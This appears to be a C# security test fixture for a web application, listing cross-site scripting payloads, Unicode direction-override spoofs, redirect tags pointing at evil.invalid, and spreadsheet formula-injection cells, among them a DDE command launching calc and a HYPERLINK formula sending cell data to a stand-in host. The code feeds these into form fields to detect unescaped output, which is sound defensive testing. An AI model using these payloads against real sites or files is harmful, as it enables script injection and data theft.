using System.Collections.Concurrent;

namespace Safeguard.Web.Tests.Security;

/// <summary>
/// Text an attacker (or a careless paste) might put in any field: markup that would run script if a page echoed it
/// unescaped, text that breaks out of an attribute, a textarea or a &lt;script&gt; block of JSON, CSS, links with
/// javascript: URLs, entities that must not be decoded twice, and Unicode direction overrides. Each carries a marker
/// ("Hx7") that says which payload a finding came from, and calls alert with it, so a payload that runs shows up as
/// a dialog. All are short enough for the shortest free-text fields, and shorter than any place that shortens text.
/// </summary>
internal sealed class HostileText
{
    public static readonly IReadOnlyList<string> Markup =
    [
        "<script>alert('Hx1')</script>",
        "<img src=x onerror=alert('Hx2')>",
        "\"><svg onload=alert('Hx3')>",
        "'><img src=x onerror=alert('Hx4')>",
        "javascript:alert('Hx5')//",
        "</script><script>alert('Hx6')</script>",
        "</textarea><script>alert('Hx7')</script>",
        "\" autofocus onfocus=\"alert('Hx8')",
        "<style>*{display:none}</style>Hx9",
        "<a href=\"javascript:alert('Hx10')\">Hx10</a>",
        "<iframe srcdoc=\"<script>parent.alert('Hx11')</script>\">",
        "\u202EHx12 fdp.exe\u202C and after",
        "</title><script>alert('Hx13')</script>",
        "<details open ontoggle=alert('Hx14')>",
        "&lt;b&gt;Hx15&lt;/b&gt; &amp;amp; &#60;",
        "Hx16 \u2028</script>\u2029<!--",
        "${alert('Hx17')} {{7*7}} Hx17",
        "<base href=//evil.invalid/>Hx18",
        "<meta http-equiv=refresh content=0;url=//evil.invalid>Hx19",
        "<form action=javascript:alert('Hx20')><button>Hx20",
        "'-alert('Hx21')-'\\\"-alert('Hx21')-\\\"",
        "<x style=\"background:url(javascript:alert('Hx22'))\">Hx22",
        "\u2066Hx23\u2067 isolate \u202Dforce-ltr",
    ];

    /// <summary>Cells a spreadsheet would run as a formula (OWASP CSV injection), and the forms that look like them.</summary>
    public static readonly IReadOnlyList<string> Formulas =
    [
        "=1+1 Hf1",
        "+1+1 Hf2",
        "-1+1 Hf3",
        "@SUM(1+1) Hf4",
        "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Hf5\")",
        "=cmd|' /C calc'!A0 Hf6",
        "\t=1+1 Hf7",
        "\r=1+1 Hf8",
        "\uFF1D1+1 Hf9",
        "\uFF0B1+1 Hf10",
        "\uFF0D1+1 Hf11",
        "\uFF20SUM(1) Hf12",
        "\"=1+1\" Hf13",
        " =1+1 Hf14",
        "\u3000=1+1 Hf15",
        "=1+1,\"=2+2\",Hf16",
    ];

    /// <summary>What each field was given.</summary>
    public ConcurrentDictionary<string, string> Given { get; } = new();

    private int _next = -1;

    /// <summary>The next payload (in turn) that fits the field.</summary>
    public string For(string field, int maximumLength)
    {
        for (var tries = 0; tries < Markup.Count; tries++)
        {
            var payload = Markup[Interlocked.Increment(ref _next) % Markup.Count];
            if (payload.Length <= maximumLength)
            {
                Given[field] = payload;
                return payload;
            }
        }
        throw new InvalidOperationException($"No payload fits {field} ({maximumLength} characters)");
    }

    /// <summary>The marker ("Hx7") of a payload.</summary>
    public static string MarkerOf(string payload) => System.Text.RegularExpressions.Regex.Match(payload, @"H[xf]\d+").Value;
}
